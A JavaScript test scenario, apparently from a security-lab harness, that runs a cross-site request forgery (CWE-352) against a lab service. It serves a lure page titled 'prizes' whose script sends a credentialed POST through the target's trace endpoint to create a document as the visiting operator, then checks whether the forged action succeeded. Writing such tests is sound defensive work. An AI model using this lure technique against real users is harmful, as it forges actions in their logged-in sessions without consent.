// CSRF (CWE-352), in a real browser: the attacker's page is another port of this machine, which is the same site; so the browser adds
// the operator's cookie, SameSite=Strict or not. The order posts a document, which shows that it was carried out.
import { operator } from '../lib/page.js';

export function benign(lab) { operator(lab); }

export function attack(lab) {
  const title = `order ${Date.now()}-${Math.floor(Math.random() * 1e9)}`;
  const body = JSON.stringify({ method: 'POST', path: '/v1/documents', body: JSON.stringify({ title, text: 'The board agreed on Monday.' }) });
  const page = `<!DOCTYPE html><title>prizes</title><script>
fetch("http://${lab.page.address}/api/trace", { method: "POST", mode: "no-cors", credentials: "include", body: ${JSON.stringify(body)} })
  .finally(() => { document.title = "done"; });</script>`;
  const lure = lab.mesh.listen({ address: lab.lure, type: 'text/html', body: page });
  const mark = { marks: [`http://${lab.lure}`] };
  const done = () => {
    const list = lab.http({ path: '/v1/documents', token: lab.tokens.erin, from: '' }); // from where the browser is, which alerts name
    return list.status === 200 && list.body.includes(title);
  };
  const came = () => lure.await(1).some((a) => a.method === 'GET');
  let visited = 0;
  for (let tries = 0; tries < 40 && visited < 8; tries++) { // he comes within seconds; then the order has as long as it needs
    lab.mesh.sleep(500);
    if (came()) visited++;
    if (visited && done()) return lab.judge(true, 'the order was carried out', mark);
  }
  lure.close();
  if (!visited) throw new Error('nobody came to the page');
  lab.judge(false, 'nothing was ordered', mark);
}
